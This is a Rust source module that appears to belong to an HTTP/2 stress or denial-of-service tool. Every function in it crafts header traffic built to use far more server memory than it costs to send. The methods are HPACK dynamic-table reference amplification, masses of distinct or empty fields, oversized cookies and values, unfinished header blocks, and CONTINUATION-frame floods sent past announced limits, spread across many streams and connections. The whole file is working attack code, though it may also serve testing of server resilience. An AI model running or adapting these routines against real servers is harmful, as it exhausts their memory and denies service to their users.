//! Metadata that costs the server much more memory than it costs the sender.

use std::io;

use crate::connection::Connection;
use crate::crowd::crowd;
use crate::frames::{Block, CONTINUATION, END_HEADERS, HEADERS, MAX_FRAME, NEWEST, frame, headers};
use crate::target::{Held, Target};
use crate::windows::Reading;

/// Calls on one connection, within the server's limit.
const STREAMS: usize = 1000;
/// Empty fields of one-letter names within the 256 KiB of metadata that a call may have: 33 bytes
/// each.
const FIELDS: usize = 7_700;
/// Within the 4 KiB of the dynamic table: 35 bytes each.
const NAMES: usize = 60;

/// Calls that are never ended, whose metadata is one-byte references to one field.
pub(crate) async fn references(target: Target, path: &'static str) -> Held {
    let first = Block::call(path).added("a", "").indexed(NEWEST, FIELDS);
    let more = Block::call(path).indexed(NEWEST, FIELDS);
    on_one_connection(target, first, more).await
}

/// References to many fields with names of their own.
pub(crate) async fn distinct_references(target: Target, path: &'static str) -> Held {
    let mut first = Block::call(path);
    for name in 0..NAMES {
        first = first.added(&format!("x{name:02}"), "");
    }
    let mut more = Block::call(path);
    for number in 0..FIELDS - 300 {
        let name = u8::try_from(number % NAMES).expect("a small number");
        more = more.indexed(NEWEST + name, 1);
    }
    on_one_connection(target, first, more).await
}

/// Literal fields, each with a name of its own.
pub(crate) async fn distinct_names(target: Target, path: &'static str) -> Held {
    let mut block = Block::call(path);
    for number in 0..6_500 {
        block = block.field(&format!("{number:x}"), "");
    }
    on_one_connection(target, block.clone(), block).await
}

/// A cookie of 4,000 bytes that is sent once and then referred to.
pub(crate) async fn large_cookies(target: Target, path: &'static str) -> Held {
    let first = Block::call(path).added("cookie", &"c".repeat(4_000));
    let more = Block::call(path).indexed(NEWEST, 60);
    on_one_connection(target, first, more).await
}

/// Cookies in crumbs: empty ones, by an index that every connection has.
pub(crate) async fn cookie_crumbs(target: Target, path: &'static str) -> Held {
    const COOKIE: u8 = 32;
    let block = Block::call(path).indexed(COOKIE, 6_500);
    on_one_connection(target, block.clone(), block).await
}

/// One large field in each of many calls.
pub(crate) async fn long_values(target: Target, path: &'static str) -> Held {
    let block = Block::call(path).field("x", &"v".repeat(200_000));
    on_one_connection(target, block.clone(), block).await
}

async fn on_one_connection(target: Target, first: Block, more: Block) -> Held {
    let streams = target.share(STREAMS);
    let attack = async move |mut connection: Connection| {
        connection.begin(&first.0).await?;
        connection
            .write_many(streams - 1, |next| {
                let stream = *next;
                *next += 2;
                headers(stream, 0, &more.0)
            })
            .await?;
        let _ = connection.settle().await;
        Ok(connection)
    };
    crowd(&target, 1, Reading::All, &[], move |connection| {
        let attack = attack.clone();
        async move { attack(connection).await }
    })
    .await
}

/// One such call on each of many connections.
pub(crate) async fn on_many_connections(
    target: Target,
    path: &'static str,
    connections: usize,
) -> Held {
    let block = Block::call(path).added("a", "").indexed(NEWEST, FIELDS);
    let size = target.share(connections);
    crowd(&target, size, Reading::All, &[], move |mut connection| {
        let block = block.clone();
        async move {
            connection.begin(&block.0).await?;
            Ok(connection)
        }
    })
    .await
}

/// On each of many connections, a header block that is not ended, of as many fields as a call may
/// have.
pub(crate) async fn unfinished_blocks(target: Target, connections: usize) -> Held {
    let block = Block::call("/a/b").added("a", "").indexed(NEWEST, FIELDS);
    let size = target.share(connections);
    crowd(&target, size, Reading::All, &[], move |mut connection| {
        let block = block.clone();
        async move {
            connection.write(&frame(HEADERS, 0, 1, &block.0)).await?;
            Ok(connection)
        }
    })
    .await
}

/// The same in many small CONTINUATION frames, and some that are empty.
pub(crate) async fn continuations(target: Target, connections: usize) -> Held {
    let block = Block::call("/a/b").added("a", "").indexed(NEWEST, FIELDS);
    let size = target.share(connections);
    crowd(&target, size, Reading::All, &[], move |mut connection| {
        let block = block.clone();
        async move {
            connection.write(&frame(HEADERS, 0, 1, &[])).await?;
            for piece in block.0.chunks(1024) {
                connection.write(&frame(CONTINUATION, 0, 1, piece)).await?;
            }
            for _ in 0..4 {
                connection.write(&frame(CONTINUATION, 0, 1, &[])).await?;
            }
            Ok(connection)
        }
    })
    .await
}

/// Header blocks of megabytes, far beyond what is announced, which are refused at their end only.
pub(crate) async fn beyond_the_limit(target: Target) -> Held {
    let size = target.share(32);
    let attack = async move |mut connection: Connection| -> io::Result<Connection> {
        let piece = Block::default().indexed(NEWEST, MAX_FRAME).0;
        for _ in 0..20 {
            let stream = connection.next_stream();
            let first = Block::call("/a/b").added("a", "");
            connection
                .write(&frame(HEADERS, 0, stream, &first.0))
                .await?;
            for _ in 0..15 {
                connection
                    .write(&frame(CONTINUATION, 0, stream, &piece))
                    .await?;
            }
            let end = frame(CONTINUATION, END_HEADERS, stream, &[]);
            connection.write(&end).await?;
        }
        Ok(connection)
    };
    crowd(&target, size, Reading::All, &[], attack).await
}
